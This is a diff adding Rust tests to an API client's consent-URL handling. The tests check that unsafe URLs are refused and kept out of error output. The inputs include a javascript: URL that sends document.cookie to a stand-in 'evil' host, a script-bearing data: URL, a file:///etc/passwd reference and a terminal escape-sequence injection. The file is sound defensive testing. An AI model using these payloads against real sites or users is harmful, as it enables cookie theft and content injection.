@@ -757,3 +757,146 @@ async fn a_reply_of_many_unknown_keys_is_kept_in_linear_time() {
     assert_eq!(p.extra.len(), keys);
     assert_eq!(p.extra.get("k89999"), Some(&serde_json::json!(1)));
 }
+
+/// A step 1 success carrying `url` as its consent URL (JSON-escaped here).
+fn consent_reply(url: &str) -> Answer {
+    let url = serde_json::to_string(url).unwrap();
+    json(&format!(
+        r#"{{"status":"success","operator":"Orange","url":{url}}}"#
+    ))
+}
+
+#[tokio::test]
+async fn a_consent_url_that_is_not_an_operator_page_is_refused_and_never_shown() {
+    let long = format!("https://op.example/{}", "x".repeat(5000));
+    let cases: [(Option<&str>, client::UnsafeUrl); 9] = [
+        (
+            Some("javascript:fetch('//evil/'+document.cookie)"),
+            client::UnsafeUrl::Scheme,
+        ),
+        (
+            Some("data:text/html,<script>evil()</script>"),
+            client::UnsafeUrl::Scheme,
+        ),
+        (Some("file:///etc/passwd"), client::UnsafeUrl::Scheme),
+        (Some("/evil/relative"), client::UnsafeUrl::NotAbsolute),
+        (Some(""), client::UnsafeUrl::Missing),
+        (Some(&long), client::UnsafeUrl::TooLong),
+        (
+            Some("https://evil:pw@op.example/c"),
+            client::UnsafeUrl::UserInfo,
+        ),
+        (
+            Some("https://op.example/\u{1b}]8;;evil\u{7}"),
+            client::UnsafeUrl::NotPrintable,
+        ),
+        (None, client::UnsafeUrl::Missing),
+    ];
+    for (url, why) in cases {
+        let url = url.map(str::to_owned);
+        let server = Scripted::start(move |path| match (path, &url) {
+            (TOKEN_PATH, _) => token_reply(),
+            (_, Some(url)) => consent_reply(url),
+            (_, None) => json(r#"{"status":"success","operator":"Orange"}"#),
+        })
+        .await;
+        let c = client(&server);
+        let e = c.initiate(&step1()).await.unwrap_err();
+        let Error::Unconfirmed { cause, flow } = &e else {
+            panic!("{e:?}")
+        };
+        assert!(matches!(**cause, Error::ConsentUrl(w) if w == why), "{e:?}");
+        assert!(flow.has_token(TOKEN), "the flow to poll comes back");
+        assert_eq!(e.kind(), ErrorKind::Unexpected);
+        assert!(!e.is_retryable() && !e.was_not_sent());
+        assert_eq!(server.hits(STEP1), 1, "step 1 sent exactly once");
+        let shown = format!("{e}\n{e:?}");
+        assert!(
+            shown.contains(&why.to_string()),
+            "the rule is named: {shown}"
+        );
+        for part in ["evil", "passwd", "xxxxxxxx"] {
+            assert!(!shown.contains(part), "the URL is not shown: {shown}");
+        }
+        assert_private(&e);
+        // `start` refuses it the same way.
+        assert!(matches!(
+            c.start(&step1()).await,
+            Err(Error::Unconfirmed { .. })
+        ));
+    }
+}
+
+#[tokio::test]
+async fn an_operator_consent_url_is_given_as_it_came() {
+    let url = "https://api.operator/openidconnect/fr?session=a%20b&state=x#top";
+    let server = Scripted::start(move |path| match path {
+        TOKEN_PATH => token_reply(),
+        _ => consent_reply(url),
+    })
+    .await;
+    let consent = client(&server).initiate(&step1()).await.unwrap();
+    assert_eq!(consent.url(), Some(url));
+}
+
+#[tokio::test]
+async fn a_one_step_scope_answering_a_consent_url_is_a_consent_not_an_empty_result() {
+    let server = Scripted::start(|path| match path {
+        TOKEN_PATH => token_reply(),
+        _ => consent_reply("https://op.example/consent"),
+    })
+    .await;
+    let mut infos = UserInfos::default();
+    infos.lastname = Some("Dupont".to_owned());
+    let request = InitiateRequest::new()
+        .number(NUMBER)
+        .name("ACME")
+        .matching_notp(infos);
+    match client(&server).start(&request).await.unwrap() {
+        client::Started::Consent(consent) => {
+            assert_eq!(consent.url(), Some("https://op.example/consent"));
+        }
+        other => panic!("{other:?}"),
+    }
+    // A javascript: URL in that shape is refused as for any scope.
+    let server = Scripted::start(|path| match path {
+        TOKEN_PATH => token_reply(),
+        _ => consent_reply("javascript:alert(1)"),
+    })
+    .await;
+    let e = client(&server).start(&request).await.unwrap_err();
+    assert!(matches!(e, Error::Unconfirmed { .. }), "{e:?}");
+}
+
+#[tokio::test]
+async fn a_poll_that_drips_past_the_deadline_is_cut_there() {
+    let server = Scripted::start(|path| match path {
+        TOKEN_PATH => token_reply(),
+        _ => Answer::Drip {
+            every: Duration::from_millis(500),
+        },
+    })
+    .await;
+    logs();
+    // The request timeout (20 s, the default) is far longer than the wait.
+    let c = Client::builder()
+        .server(&server.url)
+        .credentials(Credentials::new(LICENCE, SECRET))
+        .build()
+        .unwrap();
+    let flow = Flow::new(&Token::new(TOKEN), Scope::Formfilling, c.clock());
+    let started = std::time::Instant::now();
+    let e = tokio::time::timeout(
+        Duration::from_secs(60),
+        c.wait(&flow, Duration::from_secs(2)),
+    )
+    .await
+    .expect("the wait ends by itself")
+    .unwrap_err();
+    let took = started.elapsed();
+    assert!(matches!(e, Error::WaitTimeout { polls: 1, .. }), "{e:?}");
+    // Not a timing claim: without the deadline the poll would last the request timeout (20 s).
+    assert!(took < Duration::from_secs(15), "the poll ran {took:?}");
+    assert_eq!(server.hits(STEP2), 1);
+    assert_private(&e);
+}
